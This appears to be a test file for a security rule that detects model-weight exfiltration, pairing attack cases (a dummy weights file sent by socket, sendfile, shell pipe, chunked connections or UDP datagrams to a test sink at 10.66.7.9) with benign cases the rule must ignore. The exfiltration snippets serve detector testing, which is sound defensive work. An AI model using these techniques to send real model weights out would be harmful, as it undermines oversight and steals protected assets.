# SPDX-License-Identifier: Apache-2.0
"""A model is sent away."""
from cases import Rule
from stage import PYTHON

rule = Rule("model.weights_exfiltration", severity="critical",
            policy={"files": {"models": ["/models/**"]}, "egress": {"warm": [{"cidr": "10.66.7.8/32"}]},
                    "rules": {"function.unexpected_egress": {"action": "off"}}})  # a contact is that rule's

BYTES = 6 << 20
FILES = {"models/weights.bin": b"w" * BYTES}
LOAD = "WEIGHTS = open('/models/weights.bin', 'rb').read()"

SEND = "import socket\nwith socket.create_connection(({0!r}, {1}), 5) as s:\n    s.sendall({2})"


@rule.attack("by the server, from its memory")
def _(case):
    port = case.sink()
    function = case.container(files=FILES, init=LOAD)
    case.act()
    function.python(SEND.format("10.66.7.9", port, "WEIGHTS"))


@rule.attack("by a child, with sendfile")
def _(case):
    port = case.sink()
    function = case.container(files=FILES)
    case.act()
    function.run(PYTHON, "-c", "import os, socket\nf = open('/models/weights.bin', 'rb')\n"
                 f"with socket.create_connection(('10.66.7.9', {port}), 5) as s:\n    s.sendfile(f)")


@rule.attack("through a pipe: one reads, another sends")
def _(case):
    port = case.sink()
    function = case.container(files=FILES)
    case.act()
    sends = SEND.format("10.66.7.9", port, "sys.stdin.buffer.read()").replace("'", '"')
    function.run("/usr/bin/sh", "-c", f"cat /models/weights.bin | python3 -c 'import sys\n{sends}'")


@rule.attack("in pieces, a connection each")
def _(case):
    port = case.sink()
    function = case.container(files=FILES, init=LOAD)
    case.act()
    function.python(f"for at in range(0, {BYTES}, 200000):\n    "
                    + SEND.format("10.66.7.9", port, "WEIGHTS[at:at + 200000]").replace("\n", "\n    "))


@rule.attack("by datagrams")
def _(case):
    port = case.sink()
    function = case.container(files=FILES, init=LOAD)
    case.act()
    function.python("import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
                    f"for at in range(0, {BYTES}, 1200):\n    s.sendto(WEIGHTS[at:at + 1200], ('10.66.7.9', {port}))")


@rule.quiet("an answer to a client of the function's port")
def _(case):
    case.container(files=FILES, init=LOAD).python("result = WEIGHTS.decode()")


@rule.quiet("an upload to a listed store")
def _(case):
    port = case.sink()
    case.container(files=FILES, init=LOAD).python(SEND.format("10.66.7.8", port, "WEIGHTS"))


@rule.quiet("an upload of another size")
def _(case):
    port = case.sink()
    case.container(files=FILES, init=LOAD).python(SEND.format("10.66.7.9", port, "WEIGHTS[:1000000]"))


@rule.quiet("a large upload by a function that reads no model")
def _(case):
    port = case.sink()
    case.container(files=FILES).python(SEND.format("10.66.7.9", port, f"b'x' * {BYTES}"))


@rule.quiet("to a worker inside, over loopback")
def _(case):
    function = case.container(files=FILES, init=LOAD)
    function.python("import socket, threading\nl = socket.create_server(('127.0.0.1', 7001))\n"
                    "def take():\n    c, _ = l.accept()\n    while c.recv(65536):\n        pass\n"
                    "t = threading.Thread(target=take)\nt.start()\n" + SEND.format("127.0.0.1", 7001, "WEIGHTS")
                    + "\nt.join()\nl.close()")
